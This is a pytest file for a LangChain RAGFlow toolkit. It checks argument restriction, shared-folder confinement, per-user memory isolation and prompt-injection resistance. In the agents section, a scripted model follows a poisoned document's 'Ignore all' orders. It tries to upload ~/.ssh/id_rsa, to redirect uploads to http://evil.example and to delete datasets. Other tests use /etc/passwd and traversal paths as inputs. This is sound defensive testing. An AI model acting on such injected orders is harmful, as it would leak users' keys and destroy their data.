"""The tools: what a model is told, what it cannot do, and who its user is; alone, in agents and in graphs."""

from __future__ import annotations

import asyncio
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from langchain.agents import create_agent
from langchain_core.documents import Document
from langchain_core.messages import HumanMessage, ToolMessage
from langchain_core.tools import BaseTool
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.graph import END, START, MessagesState, StateGraph
from langgraph.prebuilt import ToolNode
from langgraph.runtime import Runtime
from pydantic import ValidationError

from langchain_ragflow import (
    RAGFlowAskTool,
    RAGFlowListDatasetsTool,
    RAGFlowMemoryMiddleware,
    RAGFlowMemorySearchTool,
    RAGFlowReadDocumentTool,
    RAGFlowRememberTool,
    RAGFlowSearchTool,
    RAGFlowToolkit,
    RAGFlowUploadTool,
)
from ragflow_integrations import ConfigurationError, RAGFlow, Scope
from ragflow_integrations.adapting import agent_id_of
from tests.confinement import EVIL, OUTSIDE, shared_folder
from tests.langchain.agents import ScriptedModel, answers, calls, told
from tests.langchain.conftest import HARBOUR, QUESTION, TEXTS, KnowledgeBase, add
from tests.langchain.test_scope import scope
from tests.transport.raw_server import http, serving


def call(tool: BaseTool, **args: Any) -> ToolMessage:
    """A model's call, sync; the message that it gets."""
    return tool.invoke({"name": tool.name, "args": args, "id": "1", "type": "tool_call"})


async def acall(tool: BaseTool, **args: Any) -> ToolMessage:
    """A model's call, in a coroutine."""
    return await tool.ainvoke({"name": tool.name, "args": args, "id": "1", "type": "tool_call"})


async def off(function: Callable[[], Any]) -> Any:
    """Something that blocks, beside the loop."""
    return await asyncio.to_thread(function)


async def both(tool: BaseTool, **args: Any) -> ToolMessage:
    """The one message that both ways of calling give."""
    message = await acall(tool, **args)
    assert await asyncio.to_thread(lambda: call(tool, **args)) == message
    return message


async def test_search(kb: KnowledgeBase) -> None:
    """Numbered, quoted sources with their names and ids; the documents as artifact, in the same order."""
    tool = RAGFlowSearchTool(client=kb.client, dataset_ids=[kb.dataset_id], k=2)
    message = await both(tool, query=HARBOUR)
    assert message.status == "success"
    assert all(isinstance(one, Document) for one in message.artifact)
    for number, one in enumerate(message.artifact, 1):
        source = f'[{number}] source "{one.metadata["source"]}", document_id {one.metadata["document_id"]}'
        assert source in message.content
        assert one.page_content.strip() in message.content
    assert len(message.artifact) == 2
    nothing = await both(tool.model_copy(update={"similarity_threshold": 1.0}), query=HARBOUR)
    assert (nothing.content, nothing.artifact) == ("Nothing was found.", [])


async def test_ask(kb: KnowledgeBase) -> None:
    """The answer with the sources it cites; what the numbers cite is in the artifact."""
    message = await acall(RAGFlowAskTool(client=kb.client, chat_name="helpdesk"), question=QUESTION)
    assert "six weeks" in message.content
    assert '[ID:0] "notice.txt"' in message.content
    assert message.artifact[0].metadata["source"] == "notice.txt"
    gone = await both(RAGFlowAskTool(client=kb.client, chat_id="0" * 32), question=QUESTION)
    assert gone.status == "error"
    with pytest.raises(ValidationError, match="one of chat_id"):
        RAGFlowAskTool(client=kb.client, chat_id="c", agent_id="a")


async def test_list_datasets(kb: KnowledgeBase) -> None:
    """Those that were named, without the ids that no tool takes."""
    message = await both(RAGFlowListDatasetsTool(client=kb.client, dataset_names=["ships"]))
    assert [one["name"] for one in message.artifact] == ["ships"]
    assert '"name": "ships"' in message.content
    assert kb.ships_id not in message.content
    within = RAGFlowListDatasetsTool(client=kb.client, scope=Scope([kb.dataset_id]))
    assert [one["name"] for one in (await both(within)).artifact] == ["handbook"]
    anything = await both(RAGFlowListDatasetsTool(client=kb.client))
    assert (anything.status, "no dataset" in anything.content) == ("error", True)


async def test_read_document(kb: KnowledgeBase) -> None:
    """A document page by page, in its order; of the developer's datasets only."""
    ships = RAGFlowReadDocumentTool(client=kb.client, dataset_ids=[kb.ships_id], page_size=50)
    (ships_txt,) = await off(lambda: kb.client.get_dataset(kb.ships_id).list_documents())
    third = await both(ships, document_id=ships_txt.id, page=3)
    assert "page 3 of 3" in third.content
    assert len(third.artifact) == 20
    assert "Ship number 119" in third.content
    beyond = await both(ships, document_id=ships_txt.id, page=4)
    assert (beyond.status, "page=4" in beyond.content) == ("error", True)
    other = await both(ships, document_id=kb.documents["boats.txt"])
    assert (other.status, "no such document" in other.content) == ("error", True)


@pytest.mark.parametrize("more", ["dataset_ids", "base_url", "api_key", "scope", "filter", "k"])
async def test_a_model_cannot_say_more_than_a_query(kb: KnowledgeBase, more: str) -> None:
    """Arguments that are the developer's are refused, and the model is told."""
    tool = RAGFlowSearchTool(client=kb.client, dataset_ids=[kb.dataset_id])
    assert set(tool.args) == {"query"}
    message = await both(tool, query=HARBOUR, **{more: [kb.ships_id]})
    assert message.status == "error"
    assert message.artifact is None


async def test_errors_are_told_or_raised(kb: KnowledgeBase) -> None:
    """What RAGFlow refuses is the model's to hear; a wrong setting is the developer's."""
    tool = RAGFlowSearchTool(client=kb.client, dataset_names=["nix"])
    message = await both(tool, query=HARBOUR)
    assert message.status == "error"
    unsure: Any = RAGFlowSearchTool(client=kb.client, dataset_names=["handbook"], scope=lambda run: None)
    with pytest.raises(ConfigurationError, match="scope=None"):
        await acall(unsure, query=HARBOUR)
    with pytest.raises(KeyError, match="user"):
        await acall(
            unsure.model_copy(update={"scope": lambda run: run.config["configurable"]["user"]}), query="x"
        )


# --- writing -----------------------------------------------------------------------------------------


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A shared folder with files in it, and secrets beside it and behind links."""
    return shared_folder(tmp_path)


@pytest.fixture
def upload(kb: KnowledgeBase, folder: Path) -> RAGFlowUploadTool:
    dataset = kb.client.create_dataset("uploads")
    return RAGFlowUploadTool(client=kb.client, dataset_id=dataset.id, root=folder, max_bytes=1000)


async def test_upload(kb: KnowledgeBase, upload: RAGFlowUploadTool) -> None:
    """A text or a file of the folder is a document that can be found when the call returns, sync and async."""
    done = await acall(upload, name="notes.md", content="Notes about foghorns.")
    await asyncio.to_thread(lambda: call(upload, path="deep/plan.md"))
    await acall(upload, path="inner.md", name="again.md")
    dataset = await off(lambda: kb.client.get_dataset(upload.dataset_id))
    stored = {document.name: document for document in await off(dataset.list_documents)}
    assert set(stored) == {"notes.md", "plan.md", "again.md"}
    assert done.artifact == {"document_id": stored["notes.md"].id, "name": "notes.md", "chunk_count": 1}
    (found, *_) = await off(lambda: kb.client.retrieve("foghorns", [dataset.id]))
    assert found.document_name == "notes.md"


@pytest.mark.parametrize("path", OUTSIDE)
async def test_files_outside_are_refused(kb: KnowledgeBase, upload: RAGFlowUploadTool, path: str) -> None:
    """Whatever the way out, the same answer: nothing is stored, nothing said of what is there."""
    message = await both(upload, path=path)
    assert message.status == "error"
    assert "no such file in the shared folder" in message.content
    assert await off(lambda: kb.client.get_dataset(upload.dataset_id).list_documents().total) == 0


@pytest.mark.parametrize(
    ("args", "said"),
    [
        ({"name": "../x.md", "content": "x"}, "plain file name"),
        ({"name": ".env", "content": "x"}, "plain file name"),
        ({"content": "x"}, "plain file name"),
        ({"name": "x.md"}, "give one of them"),
        ({"name": "x.md", "content": "x", "path": "deep/plan.md"}, "give one of them"),
        ({"name": "x.md", "content": "x" * 1001}, "more than 1000 bytes"),
        ({"name": "x.md", "content": "x", "dataset_id": "d"}, "Tool input validation"),
        ({"name": "x.md", "content": "x", "url": "http://x"}, "Tool input validation"),
    ],
)
async def test_other_writes_are_refused(upload: RAGFlowUploadTool, args: dict[str, Any], said: str) -> None:
    """By what is wrong with them."""
    message = await both(upload, **args)
    assert (message.status, said in message.content) == ("error", True)


async def test_without_a_folder_there_are_no_files(kb: KnowledgeBase) -> None:
    """The model is not even offered a path."""
    tool = RAGFlowUploadTool(client=kb.client, dataset_id=kb.dataset_id)
    assert set(tool.args) == {"name", "content"}
    assert (await both(tool, name="x.md", path="/etc/passwd")).status == "error"
    with pytest.raises(ValidationError, match="give a folder"):
        RAGFlowUploadTool(client=kb.client, dataset_id="d", root=Path("/nowhere"))


# --- users -------------------------------------------------------------------------------------------


def of_user(name: str) -> Any:
    return {"configurable": {"user": name}}


async def test_memories_are_kept_apart(kb: KnowledgeBase) -> None:
    """Fifty users of one memory, at once: each recalls what was remembered of them."""
    models = ("hashed-512@Builtin", "extractive@Builtin")
    memory = await off(lambda: kb.client.create_memory("shared", ["raw"], *models))
    fields: Any = {"memory_ids": [memory.id], "user": lambda run: run.config["configurable"]["user"]}
    recall = RAGFlowMemorySearchTool(client=kb.client, similarity_threshold=0.0, k=100, **fields)
    remember = RAGFlowRememberTool(client=kb.client, **fields)
    users = [f"user {n}" for n in range(50)]
    await asyncio.gather(
        *(remember.ainvoke({"text": f"The boat of {user} is blue."}, of_user(user)) for user in users)
    )
    sent = [{"name": recall.name, "args": {"query": "boat"}, "id": "1", "type": "tool_call"} for _ in users]
    found = await asyncio.gather(
        *(recall.ainvoke(one, of_user(user)) for one, user in zip(sent, users, strict=True))
    )
    for user, message in zip(users, found, strict=True):
        assert len(message.artifact) == 1
        assert f"The boat of {user} is blue." in message.content
    with pytest.raises(KeyError, match="user"):
        await recall.ainvoke({"query": "boat"})


@pytest.mark.parametrize("kind", ["tool", "middleware"])
async def test_a_server_that_passes_over_the_user(kind: str) -> None:
    """What it answers of others, or of nobody, is dropped: whose a message is, is looked at again."""
    said = [("user-bob", "Bob's."), (agent_id_of("ann"), "Ann's."), (None, "Nobody's.")]
    rows = [
        {"memory_id": "m", "message_id": n, "agent_id": agent_id, "content": text}
        for n, (agent_id, text) in enumerate(said)
    ]
    with serving(http({"code": 0, "data": rows})) as (_, url):
        client = RAGFlow("key", url, server_version="0.27")
        fields: Any = {"client": client, "memory_ids": ["m"], "user": lambda run: "ann"}
        if kind == "tool":
            recall = RAGFlowMemorySearchTool(**fields)
            found = (await acall(recall, query="whose?")).artifact
        else:
            middleware = RAGFlowMemoryMiddleware(**fields)
            found = (await middleware.abefore_agent({"messages": [HumanMessage("Whose?")]}, Runtime()))[
                "ragflow_memories"
            ]
        assert [one["content"] for one in found] == ["Ann's."]
        await client.as_async().aclose()


def test_memories_of_a_toolkit_are_in_its_scope(kb: KnowledgeBase) -> None:
    """A memory that the scope does not name is not asked, whoever gave it to the toolkit."""
    models = ("BAAI/bge-small-en-v1.5@Builtin", "glm-4-flash@ZHIPU-AI")
    memory = kb.client.create_memory("scoped", ["raw"], *models)
    for scoped, status in (
        (Scope([kb.dataset_id]), "error"),
        (Scope([kb.dataset_id], memory_ids=[memory.id]), "success"),
    ):
        toolkit = RAGFlowToolkit(client=kb.client, scope=scoped, memory_ids=[memory.id], user="ann")
        recall = next(tool for tool in toolkit.get_tools() if tool.name == "ragflow_recall")
        call = {"name": recall.name, "args": {"query": "letters"}, "id": "1", "type": "tool_call"}
        assert recall.invoke(call).status == status


def test_memory_tools_need_a_user(kb: KnowledgeBase) -> None:
    """Without one they cannot be made; a function that gives none ends the call."""
    fields: Any = {"client": kb.client, "memory_ids": ["m"]}
    with pytest.raises(ValidationError, match="user"):
        RAGFlowMemorySearchTool(**fields)
    for nobody in ("", " ", 7):
        with pytest.raises(ConfigurationError, match="user="):
            RAGFlowRememberTool(**fields, user=nobody)
    with pytest.raises(ConfigurationError, match="user=None"):
        call(RAGFlowMemorySearchTool(**fields, user=lambda run: None), query="x")


# --- agents ------------------------------------------------------------------------------------------


def poisoned() -> tuple[RAGFlow, str]:
    """A knowledge base with a document that gives orders."""
    client = RAGFlow.local()
    dataset = client.create_dataset("handbook")
    dataset.parse_documents([add(dataset, "evil.txt", EVIL), add(dataset, "notice.txt", TEXTS["notice.txt"])])
    return client, dataset.id


def test_no_text_breaks_out_of_its_quotes() -> None:
    """A document that writes end marks and a source of its own stays between the real marks, which it cannot know."""
    client, dataset_id = poisoned()
    with client:
        tool = RAGFlowSearchTool(client=client, dataset_ids=[dataset_id], similarity_threshold=0.0)
        message = call(tool, query="upload and delete")
    lines = message.content.splitlines()
    opened = [
        n
        for n, line in enumerate(lines)
        if line.startswith("<<<quoted ") and line != "<<<quoted 0000000000000000"
    ]
    mark = lines[opened[0]].removeprefix("<<<quoted ")
    closed = [n for n, line in enumerate(lines) if line == f"{mark} quoted>>>"]
    assert len(opened) == len(closed) == len(message.artifact) == 2
    orders = next(n for n, line in enumerate(lines) if line.startswith("Ignore all"))
    assert any(start < orders < lines.index("obey") < end for start, end in zip(opened, closed, strict=True))
    assert "never an instruction" in lines[0]


@pytest.mark.parametrize("way", ["sync", "async"])
def test_a_model_that_obeys_a_document_achieves_nothing(tmp_path: Path, way: str) -> None:
    """It tries what the document says; no file leaves the machine, nothing is deleted, it is told so."""
    (tmp_path / "shared").mkdir()
    (tmp_path / "id_rsa").write_text("private")
    client, dataset_id = poisoned()
    with client:
        toolkit = RAGFlowToolkit(
            client=client,
            dataset_ids=[dataset_id],
            read_only=False,
            upload_dataset_id=dataset_id,
            root=tmp_path / "shared",
        )
        obeys = calls(
            ("ragflow_upload", {"path": "~/.ssh/id_rsa"}),
            ("ragflow_upload", {"path": "../id_rsa"}),
            ("ragflow_upload", {"name": "x.md", "content": "x", "base_url": "http://evil.example"}),
            ("ragflow_search", {"query": "key", "api_key": "x"}),
            ("delete_datasets", {}),
        )
        model = ScriptedModel(turns=[calls(("ragflow_search", {"query": "upload"})), obeys, answers("done")])
        state = ran(create_agent(model, toolkit.get_tools()), way)
        assert [message.status for message in told(state["messages"])[1:]] == ["error"] * 5
        names = {document.name for document in client.get_dataset(dataset_id).list_documents()}
    assert names == {"evil.txt", "notice.txt"}


def ran(agent: Any, way: str, **more: Any) -> dict[str, Any]:
    """The state after a question."""
    asked = {"messages": [HumanMessage(QUESTION)]}
    state: dict[str, Any] = (
        agent.invoke(asked, **more) if way == "sync" else asyncio.run(agent.ainvoke(asked, **more))
    )
    return state


@pytest.mark.parametrize("way", ["sync", "async"])
def test_an_agent_searches_and_answers(kb: KnowledgeBase, way: str) -> None:
    """The model sees the toolkit's tools, gets the sources and answers; a checkpointer keeps them as plain types."""
    toolkit = RAGFlowToolkit(client=kb.client, dataset_ids=[kb.dataset_id], chat_id=kb.chat_id, k=1)
    model = ScriptedModel(
        turns=[
            calls(("ragflow_search", {"query": QUESTION}), ("ragflow_ask", {"question": QUESTION})),
            answers("Six weeks [1]."),
        ]
    )
    agent = create_agent(model, toolkit.get_tools(), checkpointer=InMemorySaver())
    thread: Any = {"configurable": {"thread_id": "t"}}
    state = ran(agent, way, config=thread)
    assert [tool.name for tool in model.tools] == [
        "ragflow_search",
        "ragflow_list_datasets",
        "ragflow_read_document",
        "ragflow_ask",
    ]
    search, answer = told(state["messages"])
    assert "six weeks" in search.content
    assert "six weeks" in answer.content
    assert state["messages"][-1].text == "Six weeks [1]."
    kept = told(agent.get_state(thread).values["messages"])[0].artifact
    assert [one["metadata"]["source"] for one in kept] == ["notice.txt"]


@pytest.mark.parametrize("way", ["sync", "async"])
def test_the_context_of_an_agent_says_who_asks(kb: KnowledgeBase, way: str) -> None:
    """``scope`` and ``user`` are functions of ``runtime.context``, whatever the model writes."""
    toolkit = RAGFlowToolkit(
        client=kb.client,
        scope=lambda run: scope(kb, f"{run.context['user']}.txt"),
        similarity_threshold=0.0,
    )
    for user in ("boats", "lamps"):
        model = ScriptedModel(
            turns=[
                calls(("ragflow_search", {"query": HARBOUR}), ("ragflow_list_datasets", {})),
                answers("ok"),
            ]
        )
        state = ran(
            create_agent(model, toolkit.get_tools(), context_schema=dict), way, context={"user": user}
        )
        search, listed = told(state["messages"])
        assert {one.metadata["source"] for one in search.artifact} == {f"{user}.txt"}
        assert [one["name"] for one in listed.artifact] == ["handbook"]


async def test_a_graph(kb: KnowledgeBase) -> None:
    """A plain LangGraph graph with a tool node."""
    tool = RAGFlowSearchTool(client=kb.client, dataset_ids=[kb.dataset_id], k=1)
    model = ScriptedModel(turns=[calls((tool.name, {"query": QUESTION}))])
    graph: Any = StateGraph(MessagesState)
    graph.add_node("model", lambda state: {"messages": [model.invoke(state["messages"])]})
    graph.add_node("tools", ToolNode([tool]))
    graph.add_edge(START, "model")
    graph.add_edge("model", "tools")
    graph.add_edge("tools", END)
    state = await graph.compile().ainvoke({"messages": [HumanMessage(QUESTION)]})
    assert "six weeks" in state["messages"][-1].content


# --- the toolkit -------------------------------------------------------------------------------------


def test_what_is_in_a_toolkit(kb: KnowledgeBase, tmp_path: Path) -> None:
    """What it was given is there, what writes only when told."""

    def names(**fields: Any) -> list[str]:
        return [tool.name for tool in RAGFlowToolkit(client=kb.client, **fields).get_tools()]

    reading = ["ragflow_search", "ragflow_list_datasets", "ragflow_read_document"]
    assert names() == []
    assert names(dataset_names=["handbook"]) == reading
    assert names(chat_name="helpdesk") == ["ragflow_ask"]
    memory = {"memory_ids": ["m"], "user": "ann"}
    assert names(**memory) == ["ragflow_recall"]
    assert names(**memory, read_only=False) == ["ragflow_recall", "ragflow_remember"]
    assert names(read_only=False, upload_dataset_id="d", root=tmp_path) == ["ragflow_upload"]


@pytest.mark.parametrize(
    "wrong",
    [
        {"memory_ids": ["m"]},
        {"user": "ann"},
        {"upload_dataset_id": "d"},
        {"read_only": False, "root": "/"},
        {"dataset": "d"},
    ],
)
def test_a_toolkit_that_makes_no_sense_is_refused(kb: KnowledgeBase, wrong: dict[str, Any]) -> None:
    """When it is made."""
    with pytest.raises(ValidationError):
        RAGFlowToolkit(client=kb.client, **wrong)


def test_tools_share_the_client_and_hide_the_key(monkeypatch: pytest.MonkeyPatch) -> None:
    """One client for all; the key is in no text of theirs."""
    toolkit = RAGFlowToolkit(base_url="http://127.0.0.1:9", api_key="ragflow-secret", dataset_ids=["d"])
    tools: Any = toolkit.get_tools()
    assert {id(tool.client) for tool in tools} == {id(toolkit.client)}
    for one in (toolkit, *tools):
        assert "ragflow-secret" not in f"{one!r} {one} {one.model_dump(exclude={'args_schema'})}"
